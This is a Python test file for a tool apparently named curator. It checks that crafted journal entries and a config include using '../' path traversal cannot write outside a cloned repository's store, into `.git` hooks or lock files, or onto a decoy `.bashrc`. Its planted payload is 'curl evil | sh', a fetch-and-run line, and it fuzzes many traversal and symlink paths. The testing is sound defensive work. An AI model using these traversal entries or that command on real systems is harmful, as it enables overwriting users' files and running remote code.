"""Issue 20's attack, exactly: a cloned repository whose `.curator.yaml` says
`include: ["../../../../../../../../.."]` and whose `.curator/journal/00001-fix/meta.json` names a
file far outside the store. `undo` (state applied) and an unrelated `keywords` (state pending,
rolled back by crash recovery) must leave a decoy tree outside byte for byte, set the entry aside
and say so in `undo`, `history` and the journal notes. Then generated hostile repositories (below)."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from curator.base.config import load_config
from curator.base.locations import sample_store
from curator.base.trust import Untrusted, confine, repository_boundary, store_path
from curator.cli import main
from tests.hostile import sha, tree_hash

SAMPLE = sample_store()

HOSTILE_INCLUDE = "../../../../../../../../.."


@pytest.fixture
def clone(tmp_path):
    """(store, decoy file, decoy tree): a repository as a clone brings it, with a decoy outside."""
    decoy_tree = tmp_path / "home" / "user"
    decoy_tree.mkdir(parents=True)
    decoy = decoy_tree / ".bashrc"
    decoy.write_bytes(b"export PATH=$HOME/bin:$PATH\n")
    (decoy_tree / "notes.md").write_text("# mine\n")
    repo = tmp_path / "clone"
    (repo / ".git").mkdir(parents=True)
    store = repo / ".serena" / "memories"
    shutil.copytree(SAMPLE, store)
    with open(store / ".curator.yaml", "a") as fh:  # the store's own config, as the clone brings it
        fh.write(f'\ninclude: ["{HOSTILE_INCLUDE}"]\n')
    return store, decoy, decoy_tree


def craft_entry(store: Path, target: Path, state: str, planted: bytes) -> Path:
    """`.curator/journal/00001-fix/` naming `target` through the hostile include: undoing it (or
    rolling it back) would write `planted` there."""
    entry = store / ".curator" / "journal" / "00001-fix"
    (entry / "blobs").mkdir(parents=True)
    current = target.read_bytes()
    for data in (planted, current):
        (entry / "blobs" / sha(data)).write_bytes(data)
    rel = HOSTILE_INCLUDE + str(target)  # ../../…/.. + /tmp/…/.bashrc
    meta = {"id": "00001-fix", "operation": "fix", "title": "fix 1 finding", "created": "2026-11-19T10:00:00+00:00",
            "state": state, "files": [{"path": rel, "before": sha(planted), "after": sha(current)}], "notes": []}
    (entry / "meta.json").write_text(json.dumps(meta))
    return entry


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_undo_of_a_crafted_applied_entry_never_touches_the_decoy(clone, capsys):
    store, decoy, decoy_tree = clone
    craft_entry(store, decoy, "applied", b"curl evil | sh\n")
    before = tree_hash(decoy_tree)
    code, out, err = run(capsys, "undo", str(store))
    assert tree_hash(decoy_tree) == before
    assert code == 0 and "nothing to undo" in out and "Traceback" not in err
    assert "00001-fix" in err and "quarantine" in err  # said, not silent
    code, out, _ = run(capsys, "history", str(store), "--format", "json")
    states = {it["id"].split("-fix")[0] + "-fix": it["state"] for it in json.loads(out)["operations"]}
    assert states == {"00001-fix": "quarantined"}


def test_a_crafted_pending_entry_is_set_aside_by_an_unrelated_keywords_edit(clone, capsys):
    store, decoy, decoy_tree = clone
    craft_entry(store, decoy, "pending", b"curl evil | sh\n")
    before = tree_hash(decoy_tree)
    code, out, err = run(capsys, "keywords", "skills-ci-index.md", "ci/ci-actions-cache.md", "--set",
                         "actions", "cache", "restore", "--store", str(store))
    assert tree_hash(decoy_tree) == before
    assert "rolled back" not in err  # nothing was "recovered": the entry was never trusted
    assert "00001-fix" in err and "quarantine" in err
    assert code == 0 and "applied" in out  # and the user's own edit went through
    code, out, _ = run(capsys, "history", str(store))
    out = " ".join(out.split())  # the terminal may wrap the line
    assert "quarantined" in out and "outside the store" in out


def test_the_hostile_include_is_dropped_with_a_finding_and_never_read(clone, capsys):
    store, _, _ = clone
    cfg = load_config(store)
    assert HOSTILE_INCLUDE not in cfg.include and "leaves the repository" in cfg.refused[0]
    code, out, _ = run(capsys, "check", str(store), "--format", "json")
    report = json.loads(out)
    assert any(f["check"] == "parse.error" and "leaves the repository" in f["message"] for f in report["findings"])
    assert all(not f["path"].startswith("../..") for f in report["findings"])


def test_a_config_given_on_the_command_line_may_reach_outside(clone, tmp_path, capsys):
    store, _, decoy_tree = clone
    own = tmp_path / "mine.yaml"
    own.write_text(f'include: ["{decoy_tree}"]\n')
    assert str(decoy_tree) in load_config(store, explicit=own).include  # the user's own word


@pytest.mark.parametrize("rel", ["../x", "/etc", "~/x", "sub/../../../x", "C:/x", "link/inner"])
def test_confine_refuses_paths_out_of_the_repository(tmp_path, rel):
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "link").symlink_to(tmp_path, target_is_directory=True)
    assert repository_boundary(repo) == repo.resolve()
    with pytest.raises(Untrusted):
        confine(repo, repo, rel if rel != "../x" else "../../x")
    assert confine(repo, repo, "docs/memories") == (repo / "docs" / "memories").resolve()


def test_writes_stay_in_the_store_and_its_tier_folders(tmp_path):
    base = tmp_path / ".serena"
    store = base / "memories"
    store.mkdir(parents=True)
    (base / "knowledge").mkdir()
    (base / "validation").symlink_to(tmp_path, target_is_directory=True)  # a linked tier folder: not ours
    (base / "other").mkdir()
    assert store_path(store, "../knowledge/a.md") == (base / "knowledge" / "a.md").resolve()
    for rel in ("../validation/a.md", "../other/a.md", "../knowledge/../../x.md", "../../x.md", "../knowledge"):
        with pytest.raises(Untrusted):
            store_path(store, rel)


# -- generated hostile repositories: both journal kinds ----------------------------------
# A repository as a clone brings it: `.git/` (config, hooks), `.curator/lock`, instruction files,
# a Serena store with its own journal and lock, tier folders beside the store (inside the
# repository, and a symlinked one) and beside the repository (outside it), a FIFO. Its two
# journals hold generated entries — each naming paths a hostile entry would (`..` out,
# absolute, `.git/`, `.curator/`, a tier sibling outside, a symlinked folder, a FIFO, an agent's
# settings) as well as ordinary ones, in every state, unsealed, with a forged seal or sealed with
# the user's own key (a leaked key: the path rule behind the seal must hold alone). Whatever
# curator is then asked — undo, history, fix, check, context, keyword edits, prune, an explicit
# `undo --entry ID --yes` — the decoy trees outside, `.git/` and both `.curator/lock` files never
# change, and every command ends with an exit code, never a traceback. Each run generates at
# least 560 hostile entries of each kind (`EXAMPLES` examples of 7–10 entries).

EXAMPLES = int(os.environ.get("CURATOR_FUZZ_EXAMPLES", "0")) or 80
GIT_CONFIG = b"[core]\n\trepositoryformatversion = 0\n"

STORE = {
    "memory-index.md": "# Memory Index\n\n| Keywords | Index |\n|---|---|\n| ci build | [skills-ci-index](skills-ci-index.md) |\n",
    "skills-ci-index.md": "| Keywords | File |\n|---|---|\n| cache key restore warm | [ci/cache](ci/cache.md) |\n"
                          "| flaky retry rerun quarantine | [ci/flaky](ci/flaky.md) |\n",
    "ci/cache.md": "# Cache\n\nKeys and restore.\n",
    "ci/flaky.md": "# Flaky\n\nRetry, then quarantine.\n",
    "validation/2026-01-01-old.md": "# Old check\n",
}
REPO_FILES = {
    "CLAUDE.md": "# P\n\nSee @docs/guide.md.\n", "guides/guide.md": "# Guide\n", "AGENTS.md": "# Agents\n",
    ".claude/settings.json": '{"hooks": {}}\n', ".serena/knowledge/known.md": "# Known\n",
}
# {decoy}: the outside tree's absolute path without its leading slash
UP = "../../../../../../../../..{decoy}/victim.txt"
REPO_PATHS = st.sampled_from([
    "../knowledge/victim.md", "../outside/victim.txt", UP, "/{decoy}/victim.txt", ".git/config", ".git/hooks/pre-commit",
    ".GIT/config", ".git./config", "./.git/config", "guides/../.git/config", ".curator/lock",
    ".curator/journal/00001-fix/meta.json", ".claude/settings.json", ".serena/memories/ci/cache.md", "fifo.md",
    "CLAUDE.md", "AGENTS.md", "linked/CLAUDE.md", ".serena/knowledge/known.md", ".serena/memories/.curator/lock",
])
STORE_PATHS = st.sampled_from([
    "../../../knowledge/victim.md", "../../.git/config", "../../.git/hooks/post-checkout", "../../.curator/lock",
    ".curator/lock", ".curator/journal/00001-fix/meta.json", ".curator/archive/../lock", "../linkedtier/victim.txt",
    "linked/victim.txt", "../../../outside/victim.txt", UP, "/{decoy}/victim.txt", "../knowledge/known.md",
    "../knowledge/new.md", "ci/cache.md", "fifo.md", ".git/config", "../../CLAUDE.md", "ci/../../../../outside/x.md",
    ".curator/archive/ci/cache.md",
])
SEALS = st.sampled_from(["none", "forged", "real"])
STATES = st.sampled_from(["pending", "applied", "undoing", "undone", "rolled-back"])
CONFIG_INCLUDES = st.lists(st.sampled_from(["../../../../../../../../..", "/{decoy}", "../../outside", "linked",
                                            "../knowledge", "../linkedtier", "ci/../../..", "~/x"]), max_size=2)


def entries_of(paths):
    return st.lists(st.tuples(SEALS, STATES, st.lists(paths, min_size=1, max_size=3)), min_size=7, max_size=10)


def build(base: Path, includes) -> dict:
    outside, beside = base / "outside", base / "knowledge"
    for folder in (outside, beside):
        folder.mkdir()
    (outside / "victim.txt").write_bytes(b"the user's own file\n")
    (beside / "victim.md").write_bytes(b"the user's own notes\n")
    repo = base / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_bytes(GIT_CONFIG)
    for rel, text in REPO_FILES.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    store = repo / ".serena" / "memories"
    for rel, text in STORE.items():
        (store / rel).parent.mkdir(parents=True, exist_ok=True)
        (store / rel).write_text(text)
    (repo / "linked").symlink_to(outside, target_is_directory=True)
    (store / "linked").symlink_to(outside, target_is_directory=True)
    (repo / ".serena" / "linkedtier").symlink_to(outside, target_is_directory=True)
    for root in (repo, store):
        os.mkfifo(root / "fifo.md")
        (root / ".curator" / "journal").mkdir(parents=True)
        (root / ".curator" / "lock").write_bytes(b"")
    if includes:
        decoy = str(outside).lstrip("/")
        (store / ".curator.yaml").write_text("include:\n" + "".join(f'  - "{i.format(decoy=decoy)}"\n' for i in includes))
    return {"repo": repo, "store": store, "outside": outside, "beside": beside}


def forge(root: Path, kind: str, entries, decoy: str) -> int:
    """Write the generated entries into the journal at `root`; how many were written."""
    from curator.curation.seal import seal

    for n, (sealed, state, paths) in enumerate(entries, 1):
        entry = root / ".curator" / "journal" / f"{n:05d}-fix"
        (entry / "blobs").mkdir(parents=True)
        files = []
        for rel in paths:
            rel = rel.format(decoy=decoy)
            target = root / rel
            try:  # `after` is what the file holds now (an entry must match it to be undone)
                current = target.read_bytes() if target.is_file() and not target.is_symlink() else b"x\n"
            except OSError:
                current = b"x\n"
            planted = b"planted by the repository\n"
            for data in (planted, current):
                (entry / "blobs" / sha(data)).write_bytes(data)
            files.append({"path": rel, "before": sha(planted), "after": sha(current)})
        meta = {"id": entry.name, "operation": "fix", "title": "t", "created": "2026-11-19T10:00:00+00:00",
                "state": state, "kind": kind, "files": files, "notes": []}
        if sealed == "real":
            meta = seal(meta)
        elif sealed == "forged":
            meta["seal"] = sha(json.dumps(meta).encode())
        (entry / "meta.json").write_text(json.dumps(meta))
    return len(entries)


def protected(places: dict) -> tuple:
    """What no journal may ever change: the trees outside, `.git/`, both lock files."""
    locks = tuple((p.is_file() and not p.is_symlink(), p.read_bytes() if p.is_file() else None)
                  for p in (places["repo"] / ".curator" / "lock", places["store"] / ".curator" / "lock"))
    return (tree_hash(places["outside"]), tree_hash(places["beside"]), tree_hash(places["repo"] / ".git"), locks)


def _run_all(places: dict, argvs) -> None:
    before = protected(places)
    for argv in argvs:
        code = main(argv)
        assert code in (0, 1, 2), argv
        assert protected(places) == before, argv


REPO_COMMANDS = st.lists(st.sampled_from(["undo", "history", "fix", "check", "context", "entry"]), min_size=1,
                         max_size=3)
STORE_COMMANDS = st.lists(st.sampled_from(["undo", "history", "keywords", "fix", "prune", "check", "entry"]),
                          min_size=1, max_size=3)
FUZZ = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))


@pytest.mark.slow
@example([], [("real", "applied", [".git/config"]), ("none", "pending", ["../knowledge/victim.md"])], ["undo", "fix"])
@example([], [("real", "pending", ["../knowledge/victim.md", ".curator/lock"])], ["check"])  # issue 29's attacks
@example([], [("none", "applied", [".git/hooks/pre-commit"])], ["entry"])
@FUZZ
@given(CONFIG_INCLUDES, entries_of(REPO_PATHS), REPO_COMMANDS)
def test_hostile_repository_journals_never_change_git_the_locks_or_anything_outside(includes, entries, cmds):
    os.environ["CURATOR_TOKENS"] = "estimate"
    base = Path(tempfile.mkdtemp(prefix="curator-trust-"))
    try:
        places = build(base, includes)
        repo = str(places["repo"])
        forge(places["repo"], "repository", entries, str(places["outside"]).lstrip("/"))
        argvs = {"undo": ["undo", "--repository", repo], "history": ["history", "--repository", repo],
                 "fix": ["fix", repo, "--check", "instructions.import-broken"], "check": ["check", repo],
                 "context": ["context", repo], "entry": ["undo", "--repository", "--entry", "00001-fix", "--yes", repo]}
        _run_all(places, [argvs[c] for c in cmds])
    finally:
        os.environ.pop("CURATOR_TOKENS", None)
        shutil.rmtree(base, ignore_errors=True)


@pytest.mark.slow
@example(["../../../../../../../../.."], [("none", "applied", [UP]), ("forged", "pending", [UP])], ["undo"])
@example(["../../../../../../../../.."], [("none", "pending", [UP])], ["keywords"])  # issue 20's attacks
@example([], [("real", "pending", ["../../.git/config", "../../../knowledge/victim.md"])], ["fix"])
@example([], [("real", "applied", ["linked/victim.txt", ".curator/lock"])], ["undo", "entry"])
@FUZZ
@given(CONFIG_INCLUDES, entries_of(STORE_PATHS), STORE_COMMANDS)
def test_hostile_store_journals_never_change_git_the_locks_or_anything_outside(includes, entries, cmds):
    os.environ["CURATOR_TOKENS"] = "estimate"
    base = Path(tempfile.mkdtemp(prefix="curator-trust-"))
    try:
        places = build(base, includes)
        store = str(places["store"])
        forge(places["store"], "store", entries, str(places["outside"]).lstrip("/"))
        argvs = {"keywords": ["keywords", "skills-ci-index.md", "ci/cache.md", "--set", "cache", "key", "warm",
                              "--store", store],
                 "check": ["check", store, "--format", "json"], "fix": ["fix", store], "prune": ["prune", store],
                 "undo": ["undo", store], "history": ["history", store],
                 "entry": ["undo", "--entry", "00001-fix", "--yes", store]}
        _run_all(places, [argvs[c] for c in cmds])
    finally:
        os.environ.pop("CURATOR_TOKENS", None)
        shutil.rmtree(base, ignore_errors=True)
